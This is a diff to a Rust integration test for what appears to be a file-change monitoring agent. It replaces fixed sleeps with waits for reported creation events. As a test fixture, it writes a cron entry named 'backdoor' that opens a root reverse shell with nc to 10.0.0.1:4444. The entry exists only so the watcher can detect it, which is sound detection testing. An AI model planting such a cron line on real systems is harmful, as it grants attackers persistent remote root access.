@@ -270,14 +270,15 @@ async fn live_changes_are_reported_as_they_happen_one_change_each() {
     std::fs::remove_dir_all(tree.join("etc/cron.d")).unwrap();
     until_reported(&c, host.id, &[(p("etc/cron.d"), "deleted"), (p("etc/cron.d/job"), "deleted")]).await;
     std::fs::create_dir(tree.join("etc/cron.d")).unwrap();
-    tokio::time::sleep(Duration::from_millis(500)).await;
+    // Its creation reported is the mark that the agent has seen it, and watches it, before the
+    // file inside is written (was a fixed 500 ms pause).
+    until_reported(&c, host.id, &[(p("etc/cron.d"), "created")]).await;
     write(&tree.join("etc/cron.d/backdoor"), "* * * * * root nc -e /bin/sh 10.0.0.1 4444\n");
-    until_reported(&c, host.id, &[(p("etc/cron.d"), "created"), (p("etc/cron.d/backdoor"), "created")]).await;
+    until_reported(&c, host.id, &[(p("etc/cron.d/backdoor"), "created")]).await;
 
     // A directory renamed: what changes inside it later is reported under its new name.
     std::fs::rename(tree.join("bin"), tree.join("sbin")).unwrap();
     until_reported(&c, host.id, &[(p("sbin"), "renamed"), (p("sbin/tool"), "renamed")]).await;
-    tokio::time::sleep(Duration::from_millis(500)).await;
     write(&tree.join("sbin/tool"), "#!/bin/sh\nevil\n");
     until_reported(&c, host.id, &[(p("sbin/tool"), "modified")]).await;
     let ev = file_events(&c, host.id);
